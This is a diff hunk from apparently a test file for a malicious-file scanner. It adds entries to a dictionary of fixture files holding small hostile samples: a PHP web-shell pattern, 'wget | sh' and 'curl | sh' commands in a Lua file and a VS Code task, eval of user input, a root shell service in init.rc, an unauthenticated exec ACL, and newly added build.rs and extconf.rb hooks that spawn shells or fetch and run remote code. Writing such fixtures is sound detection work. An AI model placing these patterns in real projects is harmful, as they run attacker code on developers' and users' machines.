@@ -121,6 +121,9 @@ MADE = {
     "a.php": b"<?php $f = strrev('metsys'); $f($_GET['x']); eval(base64_decode('ZWNobyAxOw=='));\n",
     "a.lua": b"local s = string.char(112, 49)\nload(s)()\nos.execute('wget -qO- h | sh')\n",
     "tool": b"#!/usr/bin/env python3\nimport os\nos.system(eval(input()))\n",
+    "build.rs": b'fn main() { let k = std::env::vars(); Command::new("sh").arg("-c").spawn(); }',
+    "extconf.rb": b"require 'mkmf'\nx = `ls #{ENV['A']}`\n"
+    b'File.write("a", URI.open(x).read)\nspawn(x)\n',
     "init.rc": b"on boot\n setprop a b\n exec - root -- /b\nservice q /bin/sh\n user root\n",
     "rpcd/acl.d/a.json": b'{"unauthenticated": {"read": {"file": {"/*": ["exec"]}, "uci": ["a"]}}}',
     ".vscode/tasks.json": b'{"tasks": [{"label": "a", "type": "shell", "command": "curl h | sh",'
